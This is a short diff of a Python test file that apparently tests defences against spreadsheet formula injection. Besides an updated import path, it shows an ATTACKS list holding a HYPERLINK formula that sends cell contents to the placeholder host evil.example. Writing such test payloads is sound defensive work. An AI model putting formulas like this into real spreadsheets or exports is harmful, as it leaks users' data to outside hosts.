@@ -7,7 +7,7 @@ import datetime as dt
 from conftest import label, lines_document
 
 import storage
-from annotate.models import AdjudicationInput
+from annotate.core.models import AdjudicationInput
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
